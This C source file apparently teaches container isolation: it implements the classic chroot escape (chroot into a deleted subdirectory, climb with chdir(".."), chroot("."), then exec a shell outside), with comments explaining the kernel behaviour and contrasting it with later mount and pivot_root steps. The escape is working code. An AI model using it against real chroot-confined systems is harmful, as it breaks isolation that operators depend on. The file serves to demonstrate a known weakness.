/*
 * escape - get out of a chroot: the classic proof that chroot(2) is no wall.
 *
 *   see        step3-mount/step3-mount build/rootfs escape cat /etc/os-release
 *   and then   step4-pivot/step4-pivot build/rootfs escape cat /etc/os-release
 *   read       chroot(2), NOTES
 *
 * The kernel uses a process's root for two things: "/" starts there, and ".." stops there. If the working
 * directory is not below the root, ".." never reaches the root, and nothing stops it. The second chroot
 * brings us into this state: it moves the root but not the working directory.
 *
 * usage: escape [COMMAND [ARG...]]     runs COMMAND (default: sh) outside, if it gets out
 */
#define _GNU_SOURCE
#include <err.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static struct stat look_at(const char *path)
{
	struct stat seen;

	if (stat(path, &seen) == -1)
		err(1, "cannot stat %s", path);
	return seen;
}

static bool same(struct stat a, struct stat b)
{
	return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

static void narrate_root(const char *when, struct stat root)
{
	fprintf(stderr, "escape: / %s device %u:%u, inode %lu\n", when, major(root.st_dev), minor(root.st_dev),
		(unsigned long)root.st_ino);
}

/* Removes the directory at once. It stays usable as our root, because a process still refers to it. */
static void chroot_below(void)
{
	char below[] = "tmp/escape.XXXXXX";

	if (chdir("/") == -1 || !mkdtemp(below))
		err(1, "cannot make a directory in /tmp");
	if (chroot(below) == -1)
		err(1, "cannot chroot(\"%s\")", below);
	if (rmdir(below) == -1)
		err(1, "cannot remove %s", below);
	fprintf(stderr, "escape: 1. mkdir, chroot(\"%s\"): now the root is below our working directory\n", below);
}

/* Goes up until ".." is the directory that we are in. */
static void climb(void)
{
	int times = 0;
	struct stat here = look_at("."), above;

	for (;; here = above, times++) {
		if (chdir("..") == -1)
			err(1, "cannot chdir(\"..\")");
		above = look_at(".");
		if (same(here, above))
			break;
	}
	fprintf(stderr, "escape: 2. chdir(\"..\") %d times, up to the top: no root stopped us\n", times);
}

int main(int argc, char *argv[])
{
	static char *shell[] = { "sh", NULL };
	char **command = argc > 1 ? argv + 1 : shell;
	struct stat before = look_at("/"), after;

	narrate_root("is", before);
	chroot_below();
	climb();
	if (chroot(".") == -1)
		err(1, "cannot chroot(\".\")");
	after = look_at("/");
	if (same(before, after)) {
		fprintf(stderr,
			"escape: 3. chroot(\".\"): / is the same as before. There is nothing above it: no way out\n");
		return 1;
	}
	fprintf(stderr, "escape: 3. chroot(\".\"): out\n");
	narrate_root("is now", after);
	execvp(command[0], command);
	err(127, "cannot run %s", command[0]);
}
